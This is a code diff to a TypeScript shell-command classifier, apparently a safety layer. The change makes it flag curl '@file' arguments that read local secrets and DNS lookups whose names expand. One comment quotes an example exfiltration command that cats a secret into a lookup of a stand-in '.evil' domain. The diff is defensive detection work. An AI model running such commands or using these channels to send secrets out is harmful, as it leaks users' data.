@@ -1,6 +1,6 @@
 import type { Effect } from "../../effects.ts";
 import { hasOption, optionValues, parseOptions, type OptionSpec } from "../options.ts";
-import { checkWrite } from "../paths.ts";
+import { checkRead, checkWrite } from "../paths.ts";
 import { effect, opaque, type Handler, type Invocation } from "../shell-context.ts";
 
 /**
@@ -73,7 +73,11 @@ const curl: Handler = (call) => {
   const method = (optionValues(p, "X", "request").at(-1) ?? (hasOption(p, "I", "head") ? "HEAD" : hasData ? "POST" : "GET")).toUpperCase();
   const urls = [...optionValues(p, "url"), ...p.operands.map((w) => w.value)];
   if (urls.length === 0) return [opaque(call, "curl", "names no URL")];
-  return urls.flatMap((url) => http(call, url, method, optionValues(p, "o", "output")));
+  // `@FILE` in a data or write-out option reads that file (and sends it, or prints it).
+  const fileValues = [...p.options.values()].flat().filter((v) => v.startsWith("@")).map((v) => v.slice(1));
+  const secrets = fileValues.flatMap((f) => { const v = checkRead(f); return v.ok ? [] : [effect(call, v.effect, "curl @file", v.why)]; });
+  const unknown = fileValues.some((f) => f === "-" || !f.startsWith("/")) ? [opaque(call, "curl @file", "reads a file the classifier cannot place")] : [];
+  return [...secrets, ...unknown, ...urls.flatMap((url) => http(call, url, method, optionValues(p, "o", "output")))];
 };
 
 const wget: Handler = (call) => {
@@ -135,6 +139,8 @@ const ip: Handler = (call) => {
 };
 
 const lookup: Handler = (call) => {
+  // A name that expands can carry data out in the question itself (`dig "$(cat secret).evil"`).
+  if (call.argv.slice(1).some((w) => w.value === undefined)) return [opaque(call, "network probe", "a name that expands could carry data out in the lookup")];
   const names = call.argv.slice(1).map((w) => w.value).filter((v): v is string => v !== undefined && !v.startsWith("-") && !v.startsWith("@") && !/^\d+$/.test(v));
   return [effect(call, "read", "network probe", "sends a probe and reads the answer"), ...names.map((h) => effect(call, "read", "network probe", `probes ${h}`, { reaches: h }))];
 };
